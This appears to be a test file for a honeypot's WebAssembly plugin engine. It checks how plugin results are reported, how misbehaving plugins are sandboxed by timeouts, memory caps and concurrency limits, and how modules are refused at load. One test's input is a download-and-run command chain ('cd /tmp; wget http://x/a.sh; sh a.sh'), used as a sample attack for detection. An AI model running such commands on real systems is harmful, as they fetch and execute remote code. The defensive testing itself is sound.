// The wasm engine against real AssemblyScript plugins, compiled from
// core/test/fixtures/wasm-src in beforeAll: results, config, every hostile
// behaviour it must contain, the concurrency gate, and load-time refusals.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PluginError, type PluginRunner } from '../../src/plugins/engine.js';
import {
  WasmEngine,
  type WasmEngineOptions,
  type WasmLogEntry,
} from '../../src/plugins/engines/wasm/engine.js';
import { checkImports } from '../../src/plugins/engines/wasm/imports.js';
import { readModuleInfo } from '../../src/plugins/engines/wasm/module-info.js';
import {
  ASC_FLAGS,
  attackOf,
  compileFixture,
  noBroker,
  taskOf,
  wasmManifest,
  wasmPlugin,
  type ManifestOverrides,
} from './wasm-fixtures.js';

const NO_OPT = ASC_FLAGS.filter((f) => f !== '-O3');

// name -> [source, flags]
const BUILDS: Record<string, [string, string[]]> = {
  good: ['good', ASC_FLAGS],
  hostile: ['hostile', ASC_FLAGS],
  // Unoptimized, with a name section: the allocator is not inlined into __new.
  'hostile-debug': ['hostile', [...NO_OPT, '--debug']],
  'hostile-stub': ['hostile', [...NO_OPT, '--runtime', 'stub']],
  trivial: ['trivial', NO_OPT],
  sneaky: ['sneaky', NO_OPT],
  'no-analyze': ['no-analyze', NO_OPT],
  'bad-signature': ['bad-signature', NO_OPT],
  'start-throws': ['start-throws', NO_OPT],
  'start-loops': ['start-loops', NO_OPT],
  'own-memory': ['trivial', ['--runtime', 'incremental', '--exportRuntime']],
  'no-runtime': ['trivial', ['--runtime', 'incremental', '--importMemory']],
  'big-start': ['trivial', [...NO_OPT, '--initialMemory', '100', '--maximumMemory', '200']],
};

let root: string;
const wasm: Record<string, Uint8Array> = {};
const runners: PluginRunner[] = [];
let seq = 0;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'ht-wasm-engine-'));
  for (const [name, [source, flags]] of Object.entries(BUILDS)) {
    wasm[name] = await compileFixture(source, flags);
  }
}, 60_000);

afterAll(async () => {
  await Promise.all(runners.map((r) => r.close()));
  if (root) await rm(root, { recursive: true, force: true });
});

async function start(
  build: string,
  overrides: ManifestOverrides = {},
  options: WasmEngineOptions = {},
): Promise<PluginRunner> {
  const bytes = wasm[build];
  if (!bytes) throw new Error(`no build ${build}`);
  const plugin = await wasmPlugin(root, bytes, wasmManifest(`${build}-${++seq}`, overrides));
  const runner = await new WasmEngine(options).start(plugin, noBroker);
  runners.push(runner);
  return runner;
}

/** The error start() rejects with, and the plugin name it was started under. */
async function refusal(
  build: string,
  overrides: ManifestOverrides = {},
  options: WasmEngineOptions = {},
): Promise<{ err: PluginError; name: string }> {
  const name = `${build}-${seq + 1}`;
  const err: unknown = await start(build, overrides, options).then(
    () => new Error('start() resolved'),
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(PluginError);
  expect((err as PluginError).code).toBe('HT_PLUGIN_LOAD');
  return { err: err as PluginError, name };
}

/** What a task rejected with (or a marker when it resolved). */
async function failure(p: Promise<unknown>): Promise<{ code: string; message: string }> {
  try {
    await p;
    return { code: 'resolved', message: '' };
  } catch (err) {
    expect(err).toBeInstanceOf(PluginError);
    return { code: (err as PluginError).code, message: (err as PluginError).message };
  }
}

const hostileTask = (mode: string, extra: Record<string, unknown> = {}) =>
  taskOf(attackOf(`mode ${mode}`), { mode, ...extra });

function offsets(haystack: string, needle: string): number[] {
  const out: number[] = [];
  for (let i = haystack.indexOf(needle); i >= 0; i = haystack.indexOf(needle, i + 1)) out.push(i);
  return out;
}

describe('wasm engine: results', () => {
  it('a good plugin finds "wget" in the decoded attack, with offsets, and logs', async () => {
    const logs: WasmLogEntry[] = [];
    const runner = await start('good', {}, { onLog: (e) => logs.push(e) });
    const payload =
      'GET / HTTP/1.1\r\n\r\ncd /tmp; wget http://x/a.sh; sh a.sh; wget -q http://y/b';
    const attack = attackOf(payload);
    const result = (await runner.run(taskOf(attack))) as { findings: unknown[] };
    expect(result.findings).toEqual([
      ...offsets(payload, 'wget').map((offset) => ({ type: 'command', value: 'wget', offset })),
      { type: 'x-config', value: '{}' },
    ]);
    expect(offsets(payload, 'wget')).toHaveLength(2);
    expect(logs).toContainEqual({
      plugin: expect.stringMatching(/^good-/) as string,
      attack: attack.id,
      message: 'found 2 x wget',
    });

    // The instance is reused: later tasks see only their own input.
    for (let i = 0; i < 20; i++) {
      const text = `${'wget '.repeat(i)}end`;
      const r = (await runner.run(taskOf(attackOf(text)))) as { findings: unknown[] };
      expect(r.findings).toHaveLength(i + 1);
    }
    // Bytes that are not UTF-8 survive: the plugin decodes base64 itself.
    const binary = Buffer.concat([Buffer.from([0xff, 0x00, 0x80]), Buffer.from('wget')]);
    const r = (await runner.run(taskOf(attackOf(binary)))) as { findings: unknown[] };
    expect(r.findings[0]).toEqual({ type: 'command', value: 'wget', offset: 3 });
  });

  it("the plugin's config arrives with the task", async () => {
    const runner = await start('good');
    const config = { needle: 'sh a', nested: { list: [1, 'two'], quote: 'a "b" \\ c' } };
    const payload = 'wget x; sh a.sh; sh a';
    const result = (await runner.run(taskOf(attackOf(payload), config))) as {
      findings: { type: string; value: string; offset?: number }[];
    };
    expect(result.findings.filter((f) => f.type === 'command')).toEqual(
      [8, 17].map((offset) => ({ type: 'command', value: 'sh a', offset })),
    );
    expect(offsets(payload, 'sh a')).toEqual([8, 17]);
    const echoed = result.findings.find((f) => f.type === 'x-config');
    expect(JSON.parse(echoed?.value ?? 'null')).toEqual(config);
  });

  it('a reused instance runs large tasks one after another (the last input is collected)', async () => {
    // A 5 MiB payload as a UTF-16 base64 string plus its copies and the decoded
    // bytes: one task fits in 64 MB, two tasks' garbage does not (this failed
    // on the second task before the engine collected after large inputs).
    const runner = await start('good', { limits: { memoryMb: 64 } });
    const payload = 'x'.repeat(5 << 20);
    for (let i = 0; i < 3; i++) {
      const r = (await runner.run(taskOf(attackOf(payload)))) as { findings: unknown[] };
      expect(r.findings).toEqual([{ type: 'x-config', value: '{}' }]);
    }
  });

  it('10 MB of findings settles without crashing', async () => {
    const runner = await start('hostile', { limits: { memoryMb: 128, timeoutMs: 20_000 } });
    const result = (await runner.run(hostileTask('big'))) as { findings: unknown[] };
    expect(result.findings).toHaveLength(100_000);
    expect(JSON.stringify(result).length).toBeGreaterThan(10_000_000);
    await expect(runner.run(hostileTask('ok'))).resolves.toBeTruthy();
  });

  it('log lines are capped per task', async () => {
    const logs: string[] = [];
    const runner = await start('hostile', {}, { onLog: (e) => logs.push(e.message) });
    await runner.run(hostileTask('log'));
    expect(logs).toHaveLength(101);
    expect(logs[99]).toBe('line 99');
    expect(logs[100]).toBe('400 more log line(s) dropped (at most 100 per task)');
  });
});

describe('wasm engine: containment', () => {
  it('an infinite loop times out and the plugin still works afterwards', async () => {
    const runner = await start('hostile', { limits: { timeoutMs: 300 } });
    const t0 = performance.now();
    const f = await failure(runner.run(hostileTask('loop')));
    const elapsed = performance.now() - t0;
    expect(f.code).toBe('HT_PLUGIN_TIMEOUT');
    expect(f.message).toMatch(/^plugin hostile-\d+: the task did not finish within 300 ms/);
    expect(elapsed).toBeGreaterThanOrEqual(290);
    expect(elapsed).toBeLessThan(3000);
    await expect(runner.run(hostileTask('ok'))).resolves.toEqual({
      findings: [{ type: 'note', value: 'ok' }],
    });
  });

  it.each(['hostile', 'hostile-debug', 'hostile-stub'])(
    'memory growth past limits.memoryMb is HT_PLUGIN_MEMORY, not a plain trap (%s)',
    async (build) => {
      const runner = await start(build, { limits: { memoryMb: 4 } });
      const grow = await failure(runner.run(hostileTask('grow')));
      expect(grow).toEqual({
        code: 'HT_PLUGIN_MEMORY',
        message: expect.stringMatching(/cannot grow past its maximum of 4 MiB/) as string,
      });
      // One allocation far past the maximum, with memory nowhere near full.
      const big = await failure(runner.run(hostileTask('bigalloc')));
      expect(big.code).toBe('HT_PLUGIN_MEMORY');
      await expect(runner.run(hostileTask('ok'))).resolves.toBeTruthy();
      // A plain trap is still a trap.
      expect((await failure(runner.run(hostileTask('trap')))).code).toBe('HT_PLUGIN_THREW');
    },
  );

  it('traps and aborts are HT_PLUGIN_THREW with what happened; bad output is HT_PLUGIN_RESULT', async () => {
    const runner = await start('hostile');
    const trap = await failure(runner.run(hostileTask('trap')));
    expect(trap.code).toBe('HT_PLUGIN_THREW');
    expect(trap.message).toMatch(/: wasm trap: unreachable at .*wasm-function\[\d+\]:0x[0-9a-f]+/);

    const abort = await failure(runner.run(hostileTask('abort')));
    expect(abort).toEqual({
      code: 'HT_PLUGIN_THREW',
      message: expect.stringMatching(
        /^plugin hostile-\d+: abort: hostile abort at hostile\.ts:\d+:\d+$/,
      ) as string,
    });

    const recurse = await failure(runner.run(hostileTask('recurse')));
    expect(recurse.code).toBe('HT_PLUGIN_THREW');

    const notJson = await failure(runner.run(hostileTask('notjson')));
    expect(notJson.code).toBe('HT_PLUGIN_RESULT');
    expect(notJson.message).toMatch(/analyze returned text that is not JSON/);

    await expect(runner.run(hostileTask('ok'))).resolves.toEqual({
      findings: [{ type: 'note', value: 'ok' }],
    });
  });

  it('50 tasks of every kind all settle, each as it should', async () => {
    const runner = await start('hostile', {
      limits: { concurrency: 4, timeoutMs: 400, memoryMb: 4 },
    });
    const expected: Record<string, string> = {
      ok: 'resolved',
      trap: 'HT_PLUGIN_THREW',
      abort: 'HT_PLUGIN_THREW',
      notjson: 'HT_PLUGIN_RESULT',
      grow: 'HT_PLUGIN_MEMORY',
      loop: 'HT_PLUGIN_TIMEOUT',
    };
    const modes = Array.from({ length: 50 }, (_, i) =>
      i % 10 === 9 ? 'loop' : (['ok', 'trap', 'ok', 'abort', 'notjson', 'grow'][i % 6] as string),
    );
    const results = await Promise.all(modes.map((m) => failure(runner.run(hostileTask(m)))));
    expect(results.map((r) => r.code)).toEqual(modes.map((m) => expected[m]));
  }, 30_000);

  it('runs at most limits.concurrency tasks at once; the timeout counts from when a task starts', async () => {
    // 2 at a time, 300 ms each: six endless tasks can only time out in pairs,
    // at 300, 600 and 900 ms at the earliest; the two quick ones queued behind
    // them start after 900 ms and still finish, since their clock starts then.
    const runner = await start('hostile', { limits: { concurrency: 2, timeoutMs: 300 } });
    const t0 = performance.now();
    const modes = ['loop', 'loop', 'loop', 'loop', 'loop', 'loop', 'ok', 'ok'];
    const settled = await Promise.all(
      modes.map((m) =>
        failure(runner.run(hostileTask(m))).then((r) => ({ ...r, at: performance.now() - t0 })),
      ),
    );
    expect(settled.map((r) => r.code)).toEqual([
      ...Array<string>(6).fill('HT_PLUGIN_TIMEOUT'),
      'resolved',
      'resolved',
    ]);
    const loopsDone = settled
      .slice(0, 6)
      .map((r) => r.at)
      .sort((x, y) => x - y);
    loopsDone.forEach((at, k) =>
      expect(at).toBeGreaterThanOrEqual(300 * (Math.floor(k / 2) + 1) - 5),
    );
    for (const r of settled.slice(6)) expect(r.at).toBeGreaterThanOrEqual(900 - 5);
  }, 30_000);

  it('runs tasks of one plugin in parallel up to the limit', async () => {
    let live = 0;
    let peak = 0;
    const runner = await start(
      'hostile',
      { limits: { concurrency: 3, timeoutMs: 30_000 } },
      {
        onLog: ({ message }) => {
          if (message === 'begin') peak = Math.max(peak, ++live);
          if (message === 'end') live--;
        },
      },
    );
    const spin = { spin: String(20_000_000) };
    const results = await Promise.all(
      Array.from({ length: 9 }, () => failure(runner.run(hostileTask('spin', spin)))),
    );
    expect(results.map((r) => r.code)).toEqual(Array<string>(9).fill('resolved'));
    expect(peak).toBeGreaterThanOrEqual(2);
    expect(peak).toBeLessThanOrEqual(3);
  }, 60_000);

  it('close() rejects the running and the queued tasks, and later runs', async () => {
    const runner = await start('hostile', { limits: { timeoutMs: 10_000 } });
    const running = failure(runner.run(hostileTask('loop')));
    const queued = failure(runner.run(hostileTask('ok')));
    await new Promise((r) => setTimeout(r, 100));
    await runner.close();
    expect(await running).toEqual({
      code: 'HT_PLUGIN_EXIT',
      message: expect.stringMatching(/unloaded while the task ran/) as string,
    });
    expect(await queued).toEqual({
      code: 'HT_PLUGIN_EXIT',
      message: expect.stringMatching(/unloaded before the task ran/) as string,
    });
    expect((await failure(runner.run(hostileTask('ok')))).code).toBe('HT_PLUGIN_EXIT');
  });
});

describe('wasm engine: refused at load', () => {
  it('an import the manifest does not grant, named', async () => {
    const { err, name } = await refusal('sneaky');
    expect(err.message).toBe(`plugin ${name}: wasm import env.sneaky (function) is not granted`);
  });

  it('every ungranted import, including a granted name of the wrong kind', () => {
    const manifest = wasmManifest('p');
    expect(() =>
      checkImports(manifest, [
        { module: 'env', name: 'memory', kind: 'memory' },
        { module: 'env', name: 'abort', kind: 'function' },
        { module: 'honeytrap', name: 'log', kind: 'function' },
        { module: 'env', name: 'Date.now', kind: 'function' },
        { module: 'env', name: 'seed', kind: 'global' },
        { module: 'wasi_snapshot_preview1', name: 'fd_write', kind: 'function' },
      ]),
    ).toThrow(
      'plugin p: wasm import env.Date.now (function) is not granted; also not granted: env.seed (global), wasi_snapshot_preview1.fd_write (function)',
    );
  });

  it('a module without analyze, or with the wrong signature', async () => {
    expect((await refusal('no-analyze')).err.message).toMatch(
      /does not export a function analyze \(export function analyze\(input: string\): string\)/,
    );
    expect((await refusal('bad-signature')).err.message).toMatch(
      /analyze must be analyze\(input: string\): string, \(param i32\) \(result i32\) in wasm; it is \(param i32 i32\) \(result f64\)/,
    );
  });

  it('a module that defines its own memory, or lacks the runtime exports', async () => {
    expect((await refusal('own-memory')).err.message).toMatch(/build it with --importMemory/);
    expect((await refusal('no-runtime')).err.message).toMatch(
      /does not export the AssemblyScript runtime \(__new, __pin, __unpin\); build it with --exportRuntime/,
    );
  });

  it('a module whose starting memory is past limits.memoryMb', async () => {
    const info = readModuleInfo(wasm['big-start'] as Uint8Array);
    expect(info.memoryImports).toEqual([
      { module: 'env', name: 'memory', min: 100, max: 200, shared: false, memory64: false },
    ]);
    expect((await refusal('big-start', { limits: { memoryMb: 4 } })).err.message).toMatch(
      /needs 100 pages \(6\.25 MiB\) of memory to start, more than limits\.memoryMb allows \(4 MiB\)/,
    );
  });

  it('a module whose start code throws or never ends', async () => {
    expect((await refusal('start-throws')).err.message).toMatch(
      /cannot be instantiated: abort: cannot start at start-throws\.ts:\d+:\d+/,
    );
    const t0 = performance.now();
    expect((await refusal('start-loops', {}, { bootTimeoutMs: 300 })).err.message).toMatch(
      /cannot be instantiated: it did not finish instantiating within 300 ms/,
    );
    expect(performance.now() - t0).toBeLessThan(5000);
  });

  it('a wasm manifest asking for network egress', async () => {
    const { err } = await refusal('trivial', {
      capabilities: {
        network: { egress: 'allow-list', hosts: ['example.com'], schemes: ['http', 'https'] },
      },
    });
    expect(err.message).toMatch(/capabilities\.network is not available to wasm plugins/);
  });

  it('a file that is not WebAssembly', async () => {
    wasm['garbage'] = new TextEncoder().encode('not wasm at all');
    expect((await refusal('garbage')).err.message).toMatch(
      /plugin\.wasm is not a valid WebAssembly module/,
    );
  });
});
